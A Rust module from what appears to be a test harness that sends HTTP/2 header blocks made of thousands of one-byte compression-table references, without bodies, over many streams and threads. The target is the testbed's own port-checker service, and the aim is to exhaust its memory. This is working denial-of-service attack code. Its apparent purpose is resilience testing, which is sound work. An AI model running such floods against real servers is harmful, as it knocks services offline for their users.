//! Kind C, memory for few bytes: heads of references of one byte each, on streams whose bodies never come.

use std::{io, time::Duration};

use port_checker_testbed::http2::{Http2, REMEMBER, REMEMBERED, head, kind};

use super::super::attack::{Attack, Attacker};

/// Streams of a connection that the service lets be open, but one.
const STREAMS: usize = 31;

/// How many references each head has: 30 MB on the wire when they were taken; as many as are decoded; as
/// many as are admitted.
const REFERENCES: [usize; 3] = [7_900, 960, 96];

/// How long a connection is held.
const HELD: Duration = Duration::from_secs(15);

pub(super) const ATTACKS: &[Attack] = &[Attack {
    kind: 'C',
    name: "heads of references, without bodies",
    threads: 40,
    rest: Duration::from_millis(500),
    round,
}];

fn round(attacker: &Attacker<'_>) {
    for references in REFERENCES {
        let Some(stream) = attacker.connect(attacker.address()) else { return };
        let ended = Http2::over(stream, &[]).and_then(|client| send_heads(client, references));
        match ended {
            Ok(client) => {
                attacker.tally.came_to(&format!("taken with {references}"));
                attacker.rest(HELD);
                drop(client);
            }
            Err(_) => attacker.tally.came_to(&format!("broken off with {references}")),
        }
    }
}

/// On each stream one head; returns the connection unless the service ended it.
fn send_heads(mut client: Http2, references: usize) -> io::Result<Http2> {
    let fields = head("POST", "/check-ports", &[("content-type", "application/json")]);
    for stream in 0..STREAMS {
        let remember = if stream == 0 { REMEMBER } else { &[] };
        let block = [&fields, remember, &vec![REMEMBERED; references][..]].concat();
        client.send_head(&block, false)?;
    }
    // Its settings, and the acknowledgement of ours.
    for _ in 0..2 {
        if client.receive()?.kind == kind::GOAWAY {
            return Err(io::ErrorKind::ConnectionAborted.into());
        }
    }
    Ok(client)
}
